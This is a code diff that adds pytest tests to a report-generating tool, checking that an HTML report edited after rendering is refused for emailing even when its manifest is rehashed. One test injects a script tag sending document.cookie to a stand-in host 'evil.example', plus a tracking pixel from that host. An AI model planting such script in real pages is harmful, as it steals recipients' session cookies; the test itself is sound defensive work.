@@ -15,6 +15,8 @@ import shutil
 import smtplib
 import socket
 import ssl
+import subprocess
+import sys
 from collections.abc import Iterator
 from email.message import EmailMessage
 from pathlib import Path
@@ -274,6 +276,57 @@ def test_refuses_a_report_that_differs_from_the_manifest(run_dir: Path, tmp_path
     (copy / "report.pdf").write_bytes(PDF + b"changed")
     with pytest.raises(RunDirError, match=r"report\.pdf: SHA-256 .*tampered"):
         mail.build_message(copy, to=TO, sender=SENDER, environ={})
+
+
+def _rehash(root: Path) -> None:
+    manifest = manifest_mod.read_manifest(root)
+    artifacts = manifest_mod.artifact_hashes(root)
+    manifest.model_copy(update={"artifacts": artifacts}).write(root / layout.MANIFEST)
+
+
+def test_an_edited_report_is_not_mailed(run_dir: Path, tmp_path: Path) -> None:
+    copy = Path(shutil.copytree(run_dir, tmp_path / "copy"))
+    html = (copy / "report.html").read_text(encoding="utf-8")
+    edited = html.replace(
+        "</body>",
+        '<script>fetch("https://evil.example/?"+document.cookie)</script>'
+        '<img src="https://evil.example/pixel.png"></body>',
+    )
+    assert edited != html
+    (copy / "report.html").write_text(edited, encoding="utf-8")
+    _rehash(copy)  # whoever edits the report can rehash the manifest
+    eml = tmp_path / "out.eml"
+    args = ["email", str(copy), "--to", TO[0], "--eml-out", str(eml)]
+    done = subprocess.run(
+        [sys.executable, "-m", "reportgen", *args], capture_output=True, text=True, timeout=120
+    )
+    assert done.returncode == 2, done.stderr
+    assert done.stderr == (
+        f"reportgen: error: {copy / 'report.html'}: not what reportgen renders from the run's "
+        "artifacts with the packaged templates (edited after rendering?); refusing to mail it: "
+        f"run `reportgen render {copy}` first, or pass --templates DIR if it was rendered with "
+        "other templates\n"
+    )
+    assert not eml.exists()
+    # Rendered again by reportgen, the same run is mailed, without the edit.
+    assert main(["--quiet", "render", str(copy)]) == 0
+    assert main(["--quiet", *args]) == 0
+    mailed = _html_part(_parse(eml.read_bytes()))
+    assert "evil.example" not in mailed and "<script" not in mailed
+
+
+def test_a_report_rendered_with_other_templates_needs_them(run_dir: Path, tmp_path: Path) -> None:
+    copy = Path(shutil.copytree(run_dir, tmp_path / "copy"))
+    templates = tmp_path / "templates"
+    (templates / "css").mkdir(parents=True)
+    (templates / "css" / "custom.css").write_text("h1 { color: #123456; }\n")
+    assert main(["--quiet", "render", str(copy), "--templates", str(templates)]) == 0
+    eml = tmp_path / "out.eml"
+    args = ["email", str(copy), "--to", TO[0], "--eml-out", str(eml)]
+    with pytest.raises(RunDirError, match=r"report\.html: not what reportgen renders .* packaged"):
+        mail.build_message(copy, to=TO, sender=SENDER)
+    assert main(["--quiet", *args, "--templates", str(templates)]) == 0
+    assert "#123456" in _html_part(_parse(eml.read_bytes()))
 
 
 # --------------------------------------------------------------------------- a real SMTP server
